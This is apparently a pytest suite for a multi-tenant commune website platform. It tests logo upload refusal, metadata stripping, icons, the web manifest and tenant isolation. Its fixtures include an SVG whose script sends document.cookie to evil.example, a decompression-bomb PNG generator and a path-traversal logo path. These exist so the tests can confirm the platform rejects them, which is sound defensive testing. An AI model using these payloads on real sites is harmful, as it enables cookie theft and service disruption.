"""A commune's logo, icons and web-app manifest: bad files are refused in words and change
nothing, good ones lose their metadata, and each commune only ever sees its own."""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import zlib
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from PIL import ExifTags, Image
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from perron.audit import AuditEntry
from perron.cli import main
from perron.db.engine import Database
from perron.db.scope import IsolationError, platform_scope, tenant_scope
from perron.errors import Invalid
from perron.i18n import using_language
from perron.media import MediaStore
from perron.tenancy import actions
from perron.tenancy.branding import prepare_logo
from perron.tenancy.definitions import DefinitionError, Outcome, apply_definitions, load_definitions
from perron.tenancy.models import Branding, Commune, CommuneStatus
from perron.tenancy.site import SiteBranding, load_site
from tests.conftest import CONSOLE_HOST, ROOT, ClientFactory, MakeCommune, settings_env

# Images ------------------------------------------------------------------------------------


def image_bytes(
    kind: str, size: tuple[int, int] = (400, 200), colour: Any = "#0b5e3c", **options: Any
) -> bytes:
    output = io.BytesIO()
    mode = "RGBA" if isinstance(colour, tuple) and len(colour) == 4 else "RGB"
    Image.new(mode, size, colour).save(output, kind, **options)
    return output.getvalue()


def noise_png(size: tuple[int, int]) -> bytes:
    """Incompressible: the file is about as large as its pixels."""
    output = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(output, "PNG")
    return output.getvalue()


def bomb_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid PNG of 400 million pixels that weighs a few dozen kilobytes."""

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_with_gps(size: tuple[int, int] = (400, 200), orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PerronTestCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (50.0, 40.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (5.0, 4.0, 48.0)
    data = image_bytes("JPEG", size, "#a3141c", exif=exif, quality=90)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test means it
    return data


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <circle cx="50" cy="50" r="40" fill="green"/>
</svg>"""


# Helpers -----------------------------------------------------------------------------------


@pytest.fixture
def media(settings: Any) -> MediaStore:
    return MediaStore.for_settings(settings)


async def as_commune(
    database: Database, commune: Commune, change: Callable[[AsyncSession], Awaitable[Any]]
) -> Any:
    """Run a change the way the commune's own admin would: in its scope, then commit."""
    with tenant_scope(commune.id):
        async with database.transaction() as session:
            return await change(session)


async def logo_state(database: Database, media: MediaStore, commune: Commune) -> dict[str, Any]:
    with tenant_scope(commune.id):
        async with database.session() as session:
            branding = await session.scalar(select(Branding))
            audits = await session.scalar(select(func.count()).select_from(AuditEntry))
        files = media.names("logo")
    assert branding is not None
    return {
        "logo": (
            branding.logo_name,
            branding.logo_media_type,
            branding.logo_width,
            branding.logo_height,
            branding.logo_version,
        ),
        "files": files,
        "audit_entries": audits,
    }


async def site_branding(database: Database, commune: Commune) -> SiteBranding:
    """What the commune's pages are given to show (the snapshot the site is served from)."""
    with tenant_scope(commune.id):
        async with database.session() as session:
            site = await load_site(session, commune.id)
    assert site is not None
    return site.branding


async def stored_logo(client: Any) -> Image.Image:
    response = await client.get("/logo")
    assert response.status_code == 200
    return Image.open(io.BytesIO(response.content))


# Refused files -----------------------------------------------------------------------------

BAD_LOGOS = [
    pytest.param(SVG, "logo.svg", "SVG logos are not accepted: an SVG file can carry scripts", id="svg"),
    pytest.param(
        b"Dear commune, here is our logo.\n",
        "logo.png",
        "'logo.png' is named like a PNG image but does not contain one",
        id="text-named-png",
    ),
    pytest.param(
        noise_png((300, 300))[:60_000],
        "logo.png",
        "'logo.png' is a damaged or incomplete PNG image (the upload may have been cut off)",
        id="truncated-png",
    ),
    pytest.param(
        image_bytes("JPEG", (600, 400))[:-400],
        "photo.jpg",
        "'photo.jpg' is a damaged or incomplete JPEG image",
        id="truncated-jpeg",
    ),
    pytest.param(
        noise_png((1400, 1300)), "big.png", "'big.png' is 5.2 MB; a logo may be at most 2 MB", id="5mb"
    ),
    pytest.param(
        bomb_png(),
        "bomb.png",
        "The image declares 20000×20000 pixels; a logo may be at most 4000×4000 pixels.",
        id="decompression-bomb",
    ),
    pytest.param(
        image_bytes("PNG", (4500, 300)),
        "banner.png",
        "The image is 4500×300 pixels; a logo may be at most 4000×4000 pixels",
        id="too-many-pixels",
    ),
    pytest.param(image_bytes("GIF"), "logo.gif", "GIF images are not accepted", id="gif"),
    pytest.param(b"", "empty.png", "'empty.png' is empty.", id="empty"),
]


@pytest.mark.parametrize(("data", "filename", "message"), BAD_LOGOS)
async def test_a_bad_logo_is_refused_in_words_and_changes_nothing(
    database: Database,
    make_commune: MakeCommune,
    media: MediaStore,
    client_for: ClientFactory,
    data: bytes,
    filename: str,
    message: str,
) -> None:
    commune = await make_commune("alpha")
    good = image_bytes("PNG", (400, 200), "#0b5e3c")
    await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, good, "good.png", media=media)
    )
    before = await logo_state(database, media, commune)

    async def attempt(session: AsyncSession) -> None:
        with using_language("en"), pytest.raises(Invalid) as caught:
            await actions.set_logo(session, commune.id, data, filename, media=media)
        assert caught.value.field == "logo"
        assert message in caught.value.reason
        # The caller commits anyway: still nothing may have been saved.

    await as_commune(database, commune, attempt)
    assert await logo_state(database, media, commune) == before
    shown = await stored_logo(client_for("alpha.test"))
    assert shown.getpixel((10, 10)) == (0x0B, 0x5E, 0x3C)  # still the good logo


async def test_another_commune_cannot_be_given_a_logo(
    database: Database, two_communes: tuple[Commune, Commune], media: MediaStore
) -> None:
    alpha, bravo = two_communes
    with pytest.raises(IsolationError):
        await as_commune(
            database, alpha, lambda s: actions.set_logo(s, bravo.id, image_bytes("PNG"), None, media=media)
        )
    with tenant_scope(bravo.id):
        assert media.names("logo") == []
    with tenant_scope(alpha.id):
        assert media.names("logo") == []


async def test_a_logo_saved_in_a_rolled_back_change_leaves_no_file(
    database: Database, make_commune: MakeCommune, media: MediaStore
) -> None:
    commune = await make_commune("alpha")

    class Abandon(Exception):
        pass

    with pytest.raises(Abandon), tenant_scope(commune.id):
        async with database.transaction() as session:
            assert await actions.set_logo(session, commune.id, image_bytes("PNG"), "logo.png", media=media)
            assert len(media.names("logo")) == 1
            raise Abandon
    state = await logo_state(database, media, commune)
    assert state["logo"] == (None, None, None, None, None)
    assert state["files"] == []


# Accepted files ----------------------------------------------------------------------------


async def test_a_photo_loses_its_gps_position_and_stands_upright(
    database: Database, make_commune: MakeCommune, media: MediaStore, client_for: ClientFactory
) -> None:
    commune = await make_commune("alpha")
    # Orientation 6: the camera was held sideways; the picture must be turned to be upright.
    photo = jpeg_with_gps((400, 200), orientation=6)
    assert await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, photo, "IMG_0042.JPG", media=media)
    )
    response = await client_for("alpha.test").get("/logo")
    assert response.headers["content-type"] == "image/jpeg"
    served = Image.open(io.BytesIO(response.content))
    assert served.size == (200, 400)
    assert not served.getexif()
    assert "exif" not in served.info and "icc_profile" not in served.info
    assert b"Exif" not in response.content and b"PerronTestCam" not in response.content
    state = await logo_state(database, media, commune)
    assert state["logo"][1:4] == ("image/jpeg", 200, 400)


async def test_logo_is_served_with_its_version_and_replaced_cleanly(
    database: Database, make_commune: MakeCommune, media: MediaStore, client_for: ClientFactory
) -> None:
    commune = await make_commune("alpha")
    client = client_for("alpha.test")
    assert (await client.get("/logo")).status_code == 404
    first = image_bytes("PNG", (600, 300), (11, 94, 60, 255))
    assert await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, first, None, media=media)
    )
    state = await logo_state(database, media, commune)
    version = state["logo"][4]
    response = await client.get(f"/logo?v={version}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "image/png"
    assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert "set-cookie" not in response.headers
    assert (await client.get("/logo")).headers["cache-control"] == "public, max-age=300"
    assert (await client.get("/logo", headers={"if-none-match": f'"{version}"'})).status_code == 304
    assert (await site_branding(database, commune)).logo_url == f"/logo?v={version}"

    # The same picture again changes nothing; a new one replaces the old file.
    assert not await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, first, "again.png", media=media)
    )
    second = image_bytes("WEBP", (300, 300), "#1d3f8f", lossless=True)
    assert await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, second, "new.webp", media=media)
    )
    after = await logo_state(database, media, commune)
    assert len(after["files"]) == 1 and after["files"] != state["files"]
    assert after["logo"][1:4] == ("image/png", 300, 300)
    assert (await stored_logo(client)).getpixel((5, 5)) == (0x1D, 0x3F, 0x8F)
    with tenant_scope(commune.id):
        async with database.session() as session:
            actions_logged = list(
                await session.scalars(select(AuditEntry.action).order_by(AuditEntry.occurred_at))
            )
    assert actions_logged.count("branding.logo_set") == 2

    assert await as_commune(database, commune, lambda s: actions.remove_logo(s, commune.id, media=media))
    assert not await as_commune(database, commune, lambda s: actions.remove_logo(s, commune.id, media=media))
    assert (await client.get("/logo")).status_code == 404
    assert (await logo_state(database, media, commune))["files"] == []


async def test_two_communes_never_see_each_others_logo(
    database: Database,
    two_communes: tuple[Commune, Commune],
    make_commune: MakeCommune,
    media: MediaStore,
    client_for: ClientFactory,
) -> None:
    alpha, bravo = two_communes
    charlie = await make_commune("charlie")
    red, blue = image_bytes("PNG", colour="#a3141c"), image_bytes("PNG", colour="#1d3f8f")
    await as_commune(database, alpha, lambda s: actions.set_logo(s, alpha.id, red, None, media=media))
    await as_commune(database, bravo, lambda s: actions.set_logo(s, bravo.id, blue, None, media=media))
    alpha_version = (await logo_state(database, media, alpha))["logo"][4]

    assert (await stored_logo(client_for("alpha.test"))).getpixel((0, 0)) == (0xA3, 0x14, 0x1C)
    bravo_client = client_for("bravo.test")
    assert (await stored_logo(bravo_client)).getpixel((0, 0)) == (0x1D, 0x3F, 0x8F)
    # Asking bravo's site for alpha's version still gives bravo's logo, never alpha's.
    tricked = await bravo_client.get(f"/logo?v={alpha_version}")
    assert Image.open(io.BytesIO(tricked.content)).getpixel((0, 0)) == (0x1D, 0x3F, 0x8F)
    assert tricked.headers["cache-control"] == "public, max-age=300"
    assert (await client_for("charlie.test").get(f"/logo?v={alpha_version}")).status_code == 404
    alpha_icon = await client_for("alpha.test").get("/icons/icon-192.png")
    charlie_icon = await client_for("charlie.test").get("/icons/icon-192.png")
    assert alpha_icon.content != charlie_icon.content
    with tenant_scope(charlie.id):
        assert media.names("logo") == []


# Icons and manifest ------------------------------------------------------------------------

ICONS = [
    ("/icons/icon-192.png", "image/png", (192, 192)),
    ("/icons/icon-512.png", "image/png", (512, 512)),
    ("/apple-touch-icon.png", "image/png", (180, 180)),
    ("/favicon.ico", "image/x-icon", (32, 32)),
]


async def test_icons_are_real_images_of_their_size_in_the_communes_colours(
    database: Database, make_commune: MakeCommune, media: MediaStore, client_for: ClientFactory
) -> None:
    commune = await make_commune("hannut")
    await as_commune(
        database,
        commune,
        lambda s: actions.update_branding(s, commune.id, palette={"primary_color": "#0b5e3c"}),
    )
    client = client_for("hannut.test")
    branding = await site_branding(database, commune)
    versioned = {
        "/icons/icon-192.png": branding.icon_192_url,
        "/icons/icon-512.png": branding.icon_512_url,
        "/apple-touch-icon.png": branding.apple_touch_icon_url,
        "/favicon.ico": branding.favicon_url,
    }
    for path, media_type, size in ICONS:
        assert versioned[path] == f"{path}?v={branding.icon_version}"
        response = await client.get(versioned[path])
        assert response.status_code == 200, path
        assert response.headers["content-type"] == media_type
        image = Image.open(io.BytesIO(response.content))
        if media_type == "image/x-icon":
            assert image.format == "ICO" and size in image.info["sizes"]
            image = image.ico.getimage(size)
        else:
            assert (image.format, image.size) == ("PNG", size)
        assert image.convert("RGB").getpixel((size[0] // 2, 2)) == (0x0B, 0x5E, 0x3C), path
        assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
        assert "set-cookie" not in response.headers
        assert (await client.get(path)).headers["cache-control"] == "public, max-age=300"

    # Another main colour: new icon addresses, new icons.
    await as_commune(
        database,
        commune,
        lambda s: actions.update_branding(s, commune.id, palette={"primary_color": "#1d3f8f"}),
    )
    changed = await site_branding(database, commune)
    assert changed.icon_192_url != branding.icon_192_url
    assert changed.theme_color == "#1d3f8f"
    icon = Image.open(io.BytesIO((await client.get(changed.icon_192_url)).content))
    assert icon.getpixel((2, 2)) == (0x1D, 0x3F, 0x8F)

    # With a logo, the icons show it on the page's background colour.
    logo = image_bytes("PNG", (300, 300), "#a3141c")
    await as_commune(database, commune, lambda s: actions.set_logo(s, commune.id, logo, None, media=media))
    icon = Image.open(io.BytesIO((await client.get("/icons/icon-512.png")).content))
    assert icon.size == (512, 512)
    assert icon.getpixel((2, 2)) == (255, 255, 255)
    assert icon.getpixel((256, 256)) == (0xA3, 0x14, 0x1C)


async def test_the_manifest_speaks_the_visitors_language(
    make_commune: MakeCommune, client_for: ClientFactory
) -> None:
    await make_commune("hannut", languages=["fr", "nl"], names={"fr": "Hannut", "nl": "Hannuit"})
    client = client_for("hannut.test")
    response = await client_for("hannut.test").get("/manifest.webmanifest", headers={"accept-language": "nl"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/manifest+json")
    dutch = json.loads(response.content)
    assert (dutch["name"], dutch["short_name"], dutch["lang"]) == ("Hannuit", "Hannuit", "nl")
    french = json.loads((await client_for("hannut.test").get("/manifest.webmanifest?lang=fr")).content)
    assert (french["name"], french["short_name"], french["lang"]) == ("Hannut", "Hannut", "fr")
    assert french["start_url"] == french["scope"] == "/"
    assert french["display"] == "standalone"
    assert french["theme_color"] == "#1f4e79" and french["background_color"] == "#ffffff"
    assert [icon["sizes"] for icon in french["icons"]] == ["192x192", "512x512"]
    for icon in french["icons"]:
        assert icon["purpose"] == "any maskable" and icon["type"] == "image/png"
        image = Image.open(io.BytesIO((await client.get(icon["src"])).content))
        assert f"{image.width}x{image.height}" == icon["sizes"]
    again = await client_for("hannut.test").get(
        "/manifest.webmanifest?lang=fr", headers={"if-none-match": response.headers["etag"]}
    )
    assert again.status_code == 200  # another language, another tag
    same = await client_for("hannut.test").get(
        "/manifest.webmanifest", headers={"accept-language": "nl", "if-none-match": response.headers["etag"]}
    )
    assert same.status_code == 304


async def test_a_suspended_commune_still_shows_its_logo_and_icons(
    database: Database, make_commune: MakeCommune, media: MediaStore, client_for: ClientFactory
) -> None:
    commune = await make_commune("alpha")
    await as_commune(
        database, commune, lambda s: actions.set_logo(s, commune.id, image_bytes("PNG"), None, media=media)
    )
    with platform_scope("test: suspend"):
        async with database.transaction() as session:
            await actions.set_status(
                session, await actions.get_commune(session, "alpha"), CommuneStatus.SUSPENDED
            )
    client = client_for("alpha.test")
    assert (await client.get("/")).status_code == 503
    for path in ("/logo", "/manifest.webmanifest", *(path for path, _, _ in ICONS)):
        assert (await client.get(path)).status_code == 200, path


# Texts and home-page sections ------------------------------------------------------------


async def test_intro_and_home_sections_are_stored_and_refused_in_words(
    database: Database, make_commune: MakeCommune
) -> None:
    commune = await make_commune("alpha", languages=["fr", "nl"])
    assert await as_commune(
        database,
        commune,
        lambda s: actions.update_branding(
            s, commune.id, intro={"fr": " Bienvenue ! "}, home_sections=["intro", "contact"]
        ),
    )

    async def refused(session: AsyncSession) -> None:
        with using_language("en"), pytest.raises(Invalid) as caught:
            await actions.update_branding(session, commune.id, home_sections=["intro", "weather"])
        assert caught.value.field == "home_sections"
        assert "'weather': not a home-page section" in caught.value.reason
        with pytest.raises(Invalid) as caught:
            await actions.update_branding(session, commune.id, intro={"fr": "ok", "xx": "?"})
        assert caught.value.field == "intro.xx"
        with pytest.raises(Invalid, match="accent_color: 'blue' is not a colour"):
            await actions.update_branding(
                session, commune.id, palette={"accent_color": "blue"}, intro={"fr": "Changed"}
            )

    await as_commune(database, commune, refused)
    with tenant_scope(commune.id):
        async with database.session() as session:
            site = await load_site(session, commune.id)
    assert site is not None
    assert (site.branding.intro_text("fr"), site.branding.intro_text("nl")) == ("Bienvenue !", "")
    assert site.branding.home_sections == ("intro", "contact")
    assert site.branding.shows("contact") and not site.branding.shows("services")


# Tenants as code and the command line ------------------------------------------------------


@pytest.fixture
def demo(tmp_path: Path) -> Path:
    folder = tmp_path / "tenants"
    shutil.copytree(ROOT / "tenants", folder)
    return folder


async def test_tenant_files_give_the_demo_communes_their_logos(
    database: Database, demo: Path, media: MediaStore, client_for: ClientFactory
) -> None:
    async def apply() -> list[Any]:
        with platform_scope("test: apply definitions"):
            async with database.transaction() as session:
                return await apply_definitions(
                    session, load_definitions(demo), console_host=CONSOLE_HOST, media=media
                )

    await apply()
    for slug in ("hannut", "la-louviere", "andenne"):
        expected = prepare_logo((demo / slug / "logo.png").read_bytes())
        response = await client_for(f"{slug}.localhost").get("/logo")
        assert response.status_code == 200, slug
        assert response.content == expected.data
    assert {report.outcome for report in await apply()} == {Outcome.UNCHANGED}


def test_a_tenant_file_naming_a_bad_logo_is_refused_with_file_and_key(demo: Path) -> None:
    (demo / "hannut" / "logo.png").write_text("not an image", encoding="utf-8")
    toml = demo / "andenne" / "tenant.toml"
    toml.write_text(toml.read_text().replace('logo = "logo.png"', 'logo = "../hannut/logo.png"'))
    with pytest.raises(DefinitionError) as caught:
        load_definitions(demo)
    assert caught.value.problems == [
        f"{demo / 'andenne' / 'tenant.toml'}: branding.logo: '../hannut/logo.png' must be a file inside "
        "the commune's folder, such as 'logo.png'",
        f"{demo / 'hannut' / 'tenant.toml'}: branding.logo: 'logo.png' is named like a PNG image but "
        "does not contain one; upload a PNG, JPEG or WebP image.",
    ]


def test_the_branding_command_sets_and_removes_a_logo(settings: Any, tmp_path: Path) -> None:
    env = settings_env(settings)

    def run(*args: str) -> Any:
        return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)

    created = run(
        "tenants", "create", "ciney", "--nis", "91030", "--name", "fr=Ciney", "--language", "fr",
        "--domain", "ciney.test", "--active",
    )  # fmt: skip
    assert created.exit_code == 0, created.output
    svg = tmp_path / "logo.svg"
    svg.write_bytes(SVG)
    refused = run("tenants", "branding", "ciney", "--logo", str(svg), "--primary-color", "#003366")
    assert refused.exit_code == 1
    assert "SVG logos are not accepted" in refused.output
    big = tmp_path / "big.png"
    big.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * (3 * 1024 * 1024))
    too_big = run("tenants", "branding", "ciney", "--logo", str(big))
    assert too_big.exit_code == 1 and "'big.png' is 3.0 MB; a logo may be at most 2 MB" in too_big.output
    # Nothing of the refused command was kept, not even its colour.
    assert "already so" in run("tenants", "branding", "ciney", "--primary-color", "#1f4e79").output

    logo = tmp_path / "ciney.png"
    logo.write_bytes(image_bytes("PNG"))
    assert run("tenants", "branding", "ciney", "--logo", str(logo)).output.strip() == (
        f"Set the logo of ciney from {logo}."
    )
    both = run("tenants", "branding", "ciney", "--logo", str(logo), "--remove-logo")
    assert both.exit_code == 2 and "not both" in both.output
    assert "Removed the logo of ciney." in run("tenants", "branding", "ciney", "--remove-logo").output
    assert "already so" in run("tenants", "branding", "ciney", "--remove-logo").output
    sections = run("tenants", "branding", "ciney", "--home-sections", "contact,news")
    assert sections.exit_code == 1 and "'news': not a home-page section" in sections.output
